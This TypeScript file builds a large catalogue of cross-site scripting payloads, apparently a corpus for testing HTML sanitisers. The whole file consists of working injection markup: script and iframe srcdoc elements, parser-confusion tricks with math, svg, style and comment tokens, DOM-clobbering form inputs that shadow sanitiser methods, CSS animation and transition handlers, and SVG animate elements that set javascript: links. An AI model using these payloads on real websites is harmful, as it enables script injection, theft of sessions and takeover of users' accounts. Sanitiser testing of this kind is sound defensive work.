/** Elements that run or frame something by themselves. */
const elements = (run: string, page: string): string[] => [
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script/x>${run}</script>`, `<script\n>${run}</script >`, `<script type=text/javascript>${run}</script>`, `<script type=module>${run}</script>`,
  `<script>/*<!--*/${run}</script>`, `<script><!--\n${run}\n--></script>`, `<script src="data:text/javascript,${run}"></script>`, `<svg><script>${run}</script></svg>`, `<svg><script>${run.replace('(', '&#40;')}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"></script></svg>`, `<svg><script xlink:href="data:text/javascript,${run}"></script></svg>`, `<script src=data:,${run}></script>`, `<p><script>${run}</script><p>`,
  `<iframe srcdoc="${page}"></iframe>`, `<iframe srcdoc='${page}'></iframe>`, `<IFRAME SRCDOC="${page}"></IFRAME>`, `<iframe src=about:blank srcdoc="${page}">`, `<iframe srcdoc="${page.replaceAll('<', '&lt;')}"></iframe>`,
  `<iframe srcdoc="${page.replaceAll('<', '&#60;')}"></iframe>`, `<iframe srcdoc="${page.replaceAll('<', '&#x3c;')}"></iframe>`, `<iframe loading=eager srcdoc="${page}"></iframe>`, `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="${page}"></iframe>`,
]

/** Where a parser changes its mind: foreign namespaces, raw text, templates, comments, tables, forms within forms. */
const turns = (img: string): string[] => [
  `<math><mtext><table><mglyph><style><!--</style>${img}`, `<math><mtext><table><mglyph><style><math>${img}`, `<form><math><mtext></form><form><mglyph><style></math>${img}`,
  `<math><annotation-xml encoding="text/html"><style>${img}</style></annotation-xml></math>`, `<svg><foreignobject><style>${img}</style>${img}</foreignobject></svg>`, `<svg></p><style><a id="</style>${img}">`,
  `<svg><style>${img}</style></svg>`, `<svg><title>${img}</title></svg>`, `<svg><desc>${img}</desc></svg>`, `<math><mi>${img}</mi></math>`, `<math><mo>${img}</mo></math>`, `<math><mn>${img}</mn></math>`, `<math><ms>${img}</ms></math>`,
  `<math><annotation-xml>${img}</annotation-xml></math>`, `<math><style>${img}</style></math>`, `<math></br><style>${img}</style></math>`, `<svg></br><title>${img}</title></svg>`, `<svg><p>${img}</svg>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${img}"></style></h1>`, `<svg><font color=x>${img}</font></svg>`, `<svg><font>${img}</svg>`, `<svg><![CDATA[><img x="]]>${img}"></svg>`,
  `<noscript><p title="</noscript>${img}"></noscript>`, `<noembed><p title="</noembed>${img}"></noembed>`, `<noframes><p title="</noframes>${img}"></noframes>`, `<xmp><p title="</xmp>${img}"></xmp>`, `<iframe><p title="</iframe>${img}"></iframe>`,
  `<textarea><p title="</textarea>${img}"></textarea>`, `<title><p title="</title>${img}"></title>`, `<style><p title="</style>${img}"></style>`, `<script><p title="</script>${img}"></script>`, `<listing>&lt;img src=x&gt;</listing>${img}`,
  `<!-->${img}-->`, `<!--->${img}-->`, `<!-- -- > -->${img}<!-- -->`, `<!--x--!>${img}-->`, `<!${img}>`, `<?x ${img}?>`, `</ ${img}>`, `<![CDATA[${img}]]>`, `<!DOCTYPE x>${img}`, `<!--<img src="--><img src=x>">${img}`, `<%${img}%>`, `<?php ${img} ?>`,
  `<template>x</template>${img}`, `<template><template></template></template>${img}`, `<table><tr><td>${img}</table>`, `<table>${img}</table>`, `<table><caption>${img}</caption></table>`, `<table><select><option>${img}</table>`, `<select><option></option></select>${img}`,
  `<form><form>${img}</form></form>`, `<button><button>${img}</button></button>`, `<a><a>${img}</a></a>`, `<nobr><nobr>${img}`, `<p><b><i><u><s><em><strong>${img}`, `<frameset>${img}</frameset>`, `<object>${img}</object>`, `<video>${img}</video>`, `<audio>${img}</audio>`,
  `<canvas>${img}</canvas>`, `<dialog open>${img}</dialog>`, `<portal>${img}</portal>`, `<slot>${img}</slot>`, `<picture><source>${img}</picture>`, `<ruby><rt>${img}</ruby>`, `<fieldset><legend>${img}</fieldset>`, `<dl><dt>${img}</dl>`, `<keygen>${img}`, `<isindex>${img}`,
  `<center>${img}</center>`, `<font>${img}</font>`, `<blink>${img}</blink>`, `<layer>${img}</layer>`, `<bgsound src=x>${img}`, `<x:y xmlns:x="http://www.w3.org/1999/xhtml">${img}</x:y>`, `\u0000${img}`, `\ufeff${img}`, `<\u0000p>${img}`, `${'<div>'.repeat(40)}${img}`, `${'<b>'.repeat(200)}${img}`,
]

/** Elements that take the place of what a sanitiser or a page asks the document for. */
const clobbers = (img: string): string[] =>
  ['attributes', 'children', 'childNodes', 'firstChild', 'nodeName', 'parentNode', 'removeChild', 'removeAttribute', 'setAttribute', 'getAttributeNode', 'textContent', 'innerHTML', 'namespaceURI', 'hasChildNodes', 'insertBefore', 'remove'].flatMap((name) => [
    `<form><input name=${name}>${img}</form>`,
    `<form><object id=${name}></object>${img}</form>`,
  ])

/** Styles that start a handler, or move the page. */
const styles = (run: string): string[] =>
  ['animationstart', 'animationend', 'transitionrun', 'transitionstart', 'webkitanimationstart', 'focus'].flatMap((name) => [
    `<style>@keyframes k{from{top:0}to{top:1px}}</style><p style="animation:k 1ms" on${name}=${run}>x</p>`,
    `<p style="position:fixed;inset:0;transition:color 1ms;background:url(x)" tabindex=0 autofocus on${name}=${run}>x</p>`,
  ])

/** Addresses that a drawing changes once it is there. */
const moving = (run: string): string[] =>
  ['animate', 'set'].flatMap((name) => [
    `<svg><a><${name} attributeName=href values=javascript:${run} to=javascript:${run} begin=0s /><text y=9>x</text></a></svg>`,
    `<svg><a><${name} attributeName=xlink:href values=javascript:${run} to=javascript:${run} begin=0s /><text y=9>x</text></a></svg>`,
    `<svg><${name} onbegin=${run} attributeName=x dur=1s></svg>`,
    `<svg><${name} onend=${run} attributeName=x dur=1ms></svg>`,
    `<svg><${name} onrepeat=${run} attributeName=x dur=1ms repeatCount=2></svg>`,
  ])

/** All markup of this file; `run` is a script as an attribute may hold it. */
export const hostileMarkup = (run: string): string[] => {
  const img = `<img src=data:, onerror=${run}>`
  return [...elements(run, `<img src=data:, onerror=${run}>`), ...turns(img), ...clobbers(img), ...styles(run), ...moving(run)]
}
